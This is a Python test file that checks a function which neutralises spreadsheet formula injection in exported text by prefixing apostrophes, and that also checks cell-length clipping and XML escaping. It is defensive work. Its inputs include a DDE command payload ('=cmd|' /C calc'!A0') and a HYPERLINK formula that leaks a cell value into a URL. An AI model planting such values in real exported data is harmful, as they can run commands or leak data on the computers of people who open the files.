"""No text is taken for a formula."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from malplan_tables.outputs.texts import (
    MOST_CHARACTERS,
    as_xml_holds_it,
    begins_formula,
    clipped,
    defused,
)
from outputs.spreadsheets import is_a_formula

SEPARATORS = re.compile("[;,|\t\r\n]")
pieces = st.sampled_from(
    [*"=+-@＝＋－＠;,|\t\r\n\"'”\u00a0\u200b\ufeff aA1ø(", "SUM(A1)", "cmd|' /C"]
)
hostile = st.lists(pieces, max_size=12).map("".join)


@given(hostile)
def test_no_part_of_a_text_begins_a_formula(text: str) -> None:
    for part in SEPARATORS.split(defused(text)):
        assert not is_a_formula(part) or "'" in part[: part.index(part.lstrip(' \u00a0"”'))]


@given(hostile)
def test_a_text_keeps_all_but_the_apostrophes(text: str) -> None:
    assert defused(text).replace("'", "") == text.replace("'", "")


@given(hostile)
def test_defusing_again_changes_nothing_that_counts(text: str) -> None:
    once = defused(text)
    assert defused(once).replace("'", "") == once.replace("'", "")


@given(st.text("abcæøå ÆØÅ.:!?()%/*0123456789", max_size=40))
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert defused(text) == text


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+45 12 34",
        "-3 grader",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        " =1+1",
        "\u00a0=1+1",
        "\u200b=1+1",
        "\ufeff=1+1",
        '"=1+1"',
        "”=1+1",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(A1)",
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://example.org/?"&A1;"tryk")',
        "−1",
    ],
)
def test_what_begins_a_formula_gets_an_apostrophe_before_it(text: str) -> None:
    assert begins_formula(text)
    assert defused(text).startswith("'")
    assert defused(text).replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("ja;=1+1", "ja;'=1+1"),
        ("ja, -1", "ja,' -1"),
        ("ja\n=1+1", "ja\n'=1+1"),
        ('ja";"=1+1', 'ja";\'"=1+1'),
        ("ja|@x", "ja|'@x"),
    ],
)
def test_what_follows_a_separator_is_a_value_to_a_program_with_another_one(
    text: str, expected: str
) -> None:
    assert not begins_formula(text)
    assert defused(text) == expected


@pytest.mark.parametrize(
    "text", ["1+1=2", "10-12 unge", "a@b", "medio/ultimo marts", "”lidt”", "'"]
)
def test_what_is_no_formula_stays(text: str) -> None:
    assert defused(text) == text


@given(st.integers(0, 3), st.sampled_from(["a", "😀", "æ", "\r\n"]))
def test_a_cell_is_never_longer_than_excel_takes(more: int, letter: str) -> None:
    text = letter * (MOST_CHARACTERS // len(letter.encode("utf-16-le")) * 2 + more)
    kept = clipped(text)
    assert len(kept.encode("utf-16-le")) <= 2 * MOST_CHARACTERS
    assert kept == text or (kept.endswith("…") and text.startswith(kept[:-1]))


@given(
    st.text(st.characters(), max_size=30)
    | st.sampled_from(["_x0041_", "__x000D_", "\x00a", "\ud800"])
)
def test_a_workbook_holds_every_text(text: str) -> None:
    held = as_xml_holds_it(text)
    decoded = re.sub("_x([0-9A-Fa-f]{4})_", lambda found: chr(int(found[1], 16)), held)
    allowed = re.sub(
        "[\x00-\x08\x0b-\x1f\ud800-\udfff\ufffe\uffff]", "\N{REPLACEMENT CHARACTER}", text
    )
    assert decoded == allowed
    held.encode()
